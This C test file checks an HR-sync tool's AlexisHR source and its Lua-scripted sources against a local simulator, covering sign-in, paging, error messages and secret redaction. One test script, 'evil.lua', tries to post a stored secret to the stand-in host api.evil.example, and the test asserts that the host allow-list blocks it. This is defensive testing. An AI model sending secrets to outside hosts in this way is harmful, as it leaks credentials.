/* test_hr_sources.c: the AlexisHR source and sources scripted in Lua against the HR simulator
 * (the fixtures of tests/fixtures), in C so that the sanitizer builds check their error paths
 * for leaks: a sign-in with http.token, a refused host raised in the middle of a request, a
 * script error, an AlexisHR error answer. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "hrsync/hrsim.h"
#include "hrsync/source.h"

#define PIO_SECRET "pio-s3cret-value"
#define AX_TOKEN "alexis-t0ken-value"

typedef struct fixture {
    hrs_hrsim *sim;
    char url[64], dir[128], files[8][256];
    int nfiles;
} fixture;

static int setup(void **state)
{
    fixture *f = calloc(1, sizeof *f);
    hrs_err err;
    hrs_err_clear(&err);
    hrs_hrsim_opts o = { 0 };
    o.personio_client_id = "client-1";
    o.personio_client_secret = PIO_SECRET;
    o.alexis_token = AX_TOKEN;
    f->sim = hrs_hrsim_start(&o, &err);
    if (!f->sim) {
        fprintf(stderr, "%s\n", err.msg);
        free(f);
        return -1;
    }
    snprintf(f->url, sizeof f->url, "http://127.0.0.1:%u", hrs_hrsim_port(f->sim));
    const char *tmp = getenv("TMPDIR");
    snprintf(f->dir, sizeof f->dir, "%s/hrsync-test-hr-XXXXXX", tmp && *tmp ? tmp : "/tmp");
    if (!mkdtemp(f->dir)) return -1;
    setenv("HRSYNC_TEST_PIO_SECRET", PIO_SECRET, 1);
    setenv("HRSYNC_TEST_AX_TOKEN", AX_TOKEN, 1);
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    fixture *f = *state;
    for (int i = 0; i < f->nfiles; i++) unlink(f->files[i]);
    rmdir(f->dir);
    hrs_hrsim_stop(f->sim);
    free(f);
    return 0;
}

static const char *write_script(fixture *f, const char *name, const char *text)
{
    char *path = f->files[f->nfiles++];
    snprintf(path, sizeof f->files[0], "%s/%s", f->dir, name);
    FILE *fp = fopen(path, "w");
    assert_non_null(fp);
    fputs(text, fp);
    fclose(fp);
    return path;
}

static int read_cfg(json_t *cfg, hrs_source_result *r, hrs_err *err)
{
    hrs_err_clear(err);
    int rc = hrs_source_read(cfg, r, err);
    json_decref(cfg);
    return rc;
}

static const json_t *by_id(const hrs_source_result *r, const char *id)
{
    size_t i;
    json_t *p;
    json_array_foreach(r->people, i, p)
        if (strcmp(json_string_value(json_object_get(p, "id")), id) == 0) return p;
    return NULL;
}

static void test_alexishr(void **state)
{
    fixture *f = *state;
    char base[128];
    snprintf(base, sizeof base, "%s/alexishr/v1", f->url);
    hrs_source_result r;
    hrs_err err;
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:s, s:i, s:{s:s}}", "type", "alexishr",
                                        "base_url", base, "token_env", "HRSYNC_TEST_AX_TOKEN",
                                        "page_size", 1, "fields", "cost_center", "custom.cc"),
                              &r, &err), 0);
    assert_int_equal(json_array_size(r.people), 3);
    const json_t *b = by_id(&r, "64b7f0c2a1e4d3b2c1a0e002");
    assert_string_equal(json_string_value(json_object_get(b, "department")), "Engineering");
    assert_string_equal(json_string_value(json_object_get(b, "office")), "Stockholm");
    assert_string_equal(json_string_value(json_object_get(b, "termination_date")), "2027-02-28");
    assert_string_equal(json_string_value(json_object_get(b, "employee_number")), "2");
    assert_true(json_is_null(json_object_get(b, "cost_center")));
    hrs_source_result_clear(&r);
    hrs_hrsim_stats st;
    hrs_hrsim_get_stats(f->sim, &st);
    assert_int_equal(st.alexis_pages, 3);
    /* AlexisHR's own error words, with the status. */
    setenv("HRSYNC_TEST_AX_TOKEN", "not-the-token", 1);
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:s}", "type", "alexishr", "base_url", base,
                                        "token_env", "HRSYNC_TEST_AX_TOKEN"), &r, &err), -1);
    assert_non_null(strstr(err.msg, "HTTP 401: Unauthorized"));
    assert_null(strstr(err.msg, "not-the-token"));
    assert_int_equal(err.http_status, 401);
    setenv("HRSYNC_TEST_AX_TOKEN", AX_TOKEN, 1);
    /* A filter the service refuses. */
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:s, s:{s:{s:s}}}", "type", "alexishr",
                                        "base_url", base, "token_env", "HRSYNC_TEST_AX_TOKEN",
                                        "filters", "shoeSize", "$gt", "40"), &r, &err), -1);
    assert_non_null(strstr(err.msg, "HTTP 400"));
    assert_non_null(strstr(err.msg, "shoeSize"));
}

/* Personio v1 read by a script: a token sign-in with the secret in the body, paging by offset. */
static const char *const personio_script =
    "local auth = http.token{ url = config.base .. '/auth', path = 'data.token', rotate = true,\n"
    "                         json = { client_id = 'client-1', client_secret = http.secret('pio') } }\n"
    "local people, offset = {}, 0\n"
    "repeat\n"
    "  local page = http.get(config.base .. '/company/employees',\n"
    "                        { auth = auth, query = { limit = 4, offset = offset } }).json\n"
    "  for _, e in ipairs(page.data) do\n"
    "    local a = e.attributes\n"
    "    people[#people + 1] = { id = a.id.value, first_name = a.first_name.value,\n"
    "                            status = a.status.value, hire_date = a.hire_date.value, raw = e }\n"
    "  end\n"
    "  offset = offset + #page.data\n"
    "until offset >= page.metadata.total_elements\n"
    "return people\n";

static void test_lua_token_sign_in(void **state)
{
    fixture *f = *state;
    const char *script = write_script(f, "personio.lua", personio_script);
    char base[128];
    snprintf(base, sizeof base, "%s/personio/v1", f->url);
    hrs_source_result r;
    hrs_err err;
    /* The token expires in the middle: the script's requests sign in again. */
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s], s:{s:s}, s:s}", "type", "lua",
                                        "script", script, "hosts", "127.0.0.1", "secrets",
                                        "pio_env", "HRSYNC_TEST_PIO_SECRET", "base", base),
                              &r, &err), 0);
    assert_int_equal(json_array_size(r.people), 7);
    assert_string_equal(json_string_value(json_object_get(by_id(&r, "1002"), "hire_date")),
                        "2021-02-15");
    hrs_source_result_clear(&r);
    hrs_hrsim_set_fault(f->sim, "expire_tokens_after", 1);
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s], s:{s:s}, s:s}", "type", "lua",
                                        "script", script, "hosts", "127.0.0.1", "secrets",
                                        "pio_env", "HRSYNC_TEST_PIO_SECRET", "base", base),
                              &r, &err), 0);
    hrs_source_result_clear(&r);
    hrs_hrsim_stats st;
    hrs_hrsim_get_stats(f->sim, &st);
    assert_int_equal(st.personio_auth, 3);               /* 1, then 1 + 1 again on the 403 */
    assert_int_equal(st.query_credentials, 0);
    /* A wrong secret: the sign-in fails with Personio's words and without the secret. */
    setenv("HRSYNC_TEST_PIO_SECRET", "wrong-pio-secret", 1);
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s], s:{s:s}, s:s}", "type", "lua",
                                        "script", script, "hosts", "127.0.0.1", "secrets",
                                        "pio_env", "HRSYNC_TEST_PIO_SECRET", "base", base),
                              &r, &err), -1);
    assert_non_null(strstr(err.msg, "Wrong credentials"));
    assert_null(strstr(err.msg, "wrong-pio-secret"));
    setenv("HRSYNC_TEST_PIO_SECRET", PIO_SECRET, 1);
}

static void test_lua_errors_leave_nothing_behind(void **state)
{
    fixture *f = *state;
    hrs_source_result r;
    hrs_err err;
    const char *evil = write_script(f, "evil.lua",
        "local auth = http.bearer(http.secret('pio'))\n"
        "http.post('https://api.evil.example/x', { auth = auth, json = { k = http.secret('pio') },\n"
        "          headers = { ['X-Key'] = http.secret('pio') }, query = { a = { 1, 2 } } })\n"
        "return {}\n");
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s], s:{s:s}}", "type", "lua", "script",
                                        evil, "hosts", "127.0.0.1", "secrets", "pio_env",
                                        "HRSYNC_TEST_PIO_SECRET"), &r, &err), -1);
    assert_non_null(strstr(err.msg, "evil.lua:2:"));
    assert_non_null(strstr(err.msg, "\"api.evil.example\" is not in source.hosts"));
    assert_null(strstr(err.msg, PIO_SECRET));
    /* An error raised after a request was prepared (a secret in the query string). */
    const char *q = write_script(f, "query.lua",
        "http.get(config.url .. '/custom/people', { headers = { A = 'b' },\n"
        "         query = { key = http.secret('pio') } })\n");
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s], s:{s:s}, s:s}", "type", "lua",
                                        "script", q, "hosts", "127.0.0.1", "secrets", "pio_env",
                                        "HRSYNC_TEST_PIO_SECRET", "url", f->url), &r, &err), -1);
    assert_non_null(strstr(err.msg, "cannot be a secret"));
    /* Plain http to a host that is not loopback is refused even when listed. */
    const char *plain = write_script(f, "plain.lua", "http.get('http://hr.example.com/x')\n");
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s]}", "type", "lua", "script", plain,
                                        "hosts", "hr.example.com"), &r, &err), -1);
    assert_non_null(strstr(err.msg, "use https"));
    /* A request without options; the service's words in the error. */
    const char *bare = write_script(f, "bare.lua",
        "http.get(config.url .. '/personio/v1/company/employees')\n");
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s], s:s}", "type", "lua", "script", bare,
                                        "hosts", "127.0.0.1", "url", f->url), &r, &err), -1);
    assert_non_null(strstr(err.msg, "HTTP 401: Authorization is not provided"));
    /* A script that returns no list, and one that is not there. */
    const char *none = write_script(f, "none.lua", "local x = 1\n");
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s]}", "type", "lua", "script", none,
                                        "hosts", "127.0.0.1"), &r, &err), -1);
    assert_non_null(strstr(err.msg, "must return a list of records (it returned nothing)"));
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s]}", "type", "lua", "script",
                                        "/nonexistent/x.lua", "hosts", "127.0.0.1"), &r, &err), -1);
    assert_non_null(strstr(err.msg, "cannot open the script"));
    assert_int_equal(read_cfg(json_pack("{s:s, s:s}", "type", "lua", "script", none), &r, &err), -1);
    assert_non_null(strstr(err.msg, "`hosts` must list"));
    /* A record with a function in it is quarantined, not fatal. */
    const char *fn = write_script(f, "fn.lua", "return { { id = '1', x = print }, { id = '2' } }\n");
    assert_int_equal(read_cfg(json_pack("{s:s, s:s, s:[s]}", "type", "lua", "script", fn,
                                        "hosts", "127.0.0.1"), &r, &err), 0);
    assert_int_equal(json_array_size(r.people), 1);
    assert_non_null(strstr(json_string_value(json_object_get(json_array_get(r.quarantine, 0),
                                                             "reason")), "record 1.x is a function"));
    hrs_source_result_clear(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_alexishr, setup, teardown),
        cmocka_unit_test_setup_teardown(test_lua_token_sign_in, setup, teardown),
        cmocka_unit_test_setup_teardown(test_lua_errors_leave_nothing_behind, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
